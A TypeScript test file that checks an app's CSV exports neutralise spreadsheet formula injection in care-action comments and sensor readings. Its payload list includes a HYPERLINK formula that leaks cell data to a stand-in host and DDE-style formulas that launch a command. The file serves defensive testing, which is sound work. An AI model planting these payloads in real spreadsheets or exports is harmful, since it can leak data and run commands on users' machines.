// Security review #20: CSV formula injection. User text (care action comments, values a device's
// payload formatter put in a reading, ...) must never reach a spreadsheet cell that starts with
// = + - @ tab or CR: such cells get a leading single quote (OWASP's CSV injection guidance), and
// every field holding a separator, quote or line break is quoted. Numbers that really are
// numbers (a temperature of -3.5) stay numbers. Every CSV export is covered:
// GET /export/things/<id>/actions.csv and GET /export/things/<id>/readings.csv.
import { describe, it, expect, beforeAll, afterAll } from "vitest";
import { startTestServer, gql, signUp, withOwner } from "../../server/test/harness.ts";

let server: Awaited<ReturnType<typeof startTestServer>>;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server?.close();
});

/** What a spreadsheet would evaluate. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A small CSV reader (RFC 4180, line breaks as spreadsheets take them): records of cells, quotes removed. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = "";
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else cell += c;
      i += 1;
      continue;
    }
    if (c === '"' && cell === "") quoted = true;
    else if (c === ",") {
      record.push(cell);
      cell = "";
    } else if (c === "\r" || c === "\n") {
      // As spreadsheets read it: CRLF, or a lone LF or CR, outside quotes ends the record.
      record.push(cell);
      records.push(record);
      record = [];
      cell = "";
      if (c === "\r" && text[i + 1] === "\n") i += 1;
    } else cell += c;
    i += 1;
  }
  if (cell !== "" || record.length) records.push([...record, cell]);
  return records;
}

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+1+2",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  // Separators and quotes inside user text, trying to start a new cell that is a formula.
  "fine,=1+1",
  // A line break inside a cell must not start a new row whose first cell is a formula.
  "two lines\n=1+1",
  "two lines\r=1+1",
  'say "hi";=1+1',
];

async function thingOf(token: string): Promise<string> {
  const g = (
    await gql(
      server.url,
      `mutation { createGroup(input: { name: "Formula Growers", type: GROWER, isPublic: true }) { group { id } } }`,
      {},
      token,
    )
  ).data.createGroup.group.id;
  return (
    await gql(
      server.url,
      `mutation T($g: UUID!) { createThing(input: { groupId: $g, name: "Formula Pear", type: TREE, location: { x: 51.45, y: -0.97 }, isPublic: false }) { thing { id } } }`,
      { g },
      token,
    )
  ).data.createThing.thing.id as string;
}

async function csv(id: string, what: "actions" | "readings", token: string) {
  const res = await fetch(`${server.url}/export/things/${id}/${what}.csv`, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  return res.text();
}

describe("CSV formula injection", () => {
  it("actions.csv: comments that look like formulas are neutralised with a leading quote and quoted when needed", async () => {
    const owner = await signUp(server.url);
    const id = await thingOf(owner.token);
    // Through the API, as an attacker with a thing of their own (or a collaborator) would.
    const created = await gql(
      server.url,
      `mutation A($t: UUID!, $c: String!) { createAction(input: { action: { thingId: $t, type: WATERING, comments: $c } }) { action { id } } }`,
      { t: id, c: PAYLOADS[0] },
      owner.token,
    );
    expect(created.errors).toBeUndefined();
    // The rest straight into the table, so no input check of today hides what the export does.
    await withOwner(server.databaseUrl, async (c) => {
      for (const [i, comments] of PAYLOADS.slice(1).entries()) {
        await c.query(
          `insert into app_public.actions (thing_id, type, comments, created_by, created_at)
           select $1, 'WATERING', $2, created_by, now() - make_interval(secs => $3) from app_public.actions where thing_id = $1 limit 1`,
          [id, comments, i + 1],
        );
      }
    });

    const text = await csv(id, "actions", owner.token);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(["time_utc", "type", "comments", "recorded_by", "litres"]);
    // (Creating the thing recorded a CREATED action of its own.)
    const watering = rows.filter((r) => r[1] === "WATERING");
    expect(watering, JSON.stringify(rows)).toHaveLength(PAYLOADS.length);
    const comments = watering.map((r) => r[2]).sort();
    // Every comment comes back whole, behind one quote, and no cell of the file starts a formula.
    expect(comments).toEqual(PAYLOADS.map((p) => (FORMULA_START.test(p) ? `'${p}` : p)).sort());
    for (const row of [header, ...rows]) {
      expect(row).toHaveLength(5);
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    }
    // Fields with a separator, a quote or a line break are quoted (RFC 4180); the exact text:
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(text).toContain(`"'\r=1+1"`);
    expect(text).toContain(`"fine,=1+1"`);
    expect(text).toContain(`"two lines\n=1+1"`);
    expect(text).toContain(`"two lines\r=1+1"`);
    expect(text).toContain(`"'\t=1+1"`);
    expect(text).toContain(`"say ""hi"";=1+1"`);
    expect(text).toContain(`,'+1+2,`);
    expect(text).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,`);
  });

  it("readings.csv: text in readings is neutralised, real numbers (negative too) stay numbers", async () => {
    const owner = await signUp(server.url);
    const id = await thingOf(owner.token);
    await withOwner(server.databaseUrl, async (c) => {
      const d = await c.query(
        "insert into app_public.devices (device_id, name, model, location, thing_id) values ($1, 'Formula probe', 'LSE01', point(51.45, -0.97), $2) returning id",
        [`eui-formula${Date.now()}`, id],
      );
      // A payload formatter on The Things Stack is the device owner's code: it can put text anywhere.
      await c.query(
        `insert into app_public.sensor_data (device_id, thing_id, created_at, data)
         values ($1, $2, '2026-11-20T10:00:00Z', $3::jsonb), ($1, $2, '2026-11-20T11:00:00Z', $4::jsonb)`,
        [
          d.rows[0].id,
          id,
          JSON.stringify({ water: "=1+1", temperature: -3.5, conductivity: "@cmd", ph: "-1+1", battery: 3.6, rssi: -97, snr: "+7" }),
          JSON.stringify({ water: 31.5, temperature: -0.25, rssi: -110, snr: -7.5 }),
        ],
      );
    });

    const text = await csv(id, "readings", owner.token);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(["time_utc", "device", "water", "temperature", "conductivity", "ph", "battery", "rssi", "snr"]);
    expect(rows).toHaveLength(2);
    const textRow = rows.find((r) => r[0].startsWith("2026-11-20T10"))!;
    const numberRow = rows.find((r) => r[0].startsWith("2026-11-20T11"))!;
    expect(textRow.slice(2)).toEqual(["'=1+1", "-3.5", "'@cmd", "'-1+1", "3.6", "-97", "'+7"]);
    expect(numberRow.slice(2)).toEqual(["31.5", "-0.25", "", "", "", "-110", "-7.5"]);
    for (const row of rows) {
      for (const cell of row) {
        // Only a real number may start with a minus sign.
        if (FORMULA_START.test(cell)) expect(cell, JSON.stringify(cell)).toMatch(/^-\d+(\.\d+)?$/);
      }
    }
    expect(text).toContain("2026-11-20T10:00:00.000Z");
  });
});
